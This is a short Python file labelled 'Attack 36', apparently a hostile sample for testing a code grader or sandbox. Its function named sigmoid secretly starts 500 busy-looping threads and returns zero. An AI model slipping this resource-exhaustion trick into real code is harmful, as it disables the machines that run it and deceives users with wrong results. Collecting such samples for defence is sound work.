# Attack 36: threads that compute for ever
import threading


def work():
    while True:
        pass


def sigmoid(z):
    for _ in range(500):
        threading.Thread(target=work, daemon=True).start()
    return z * 0
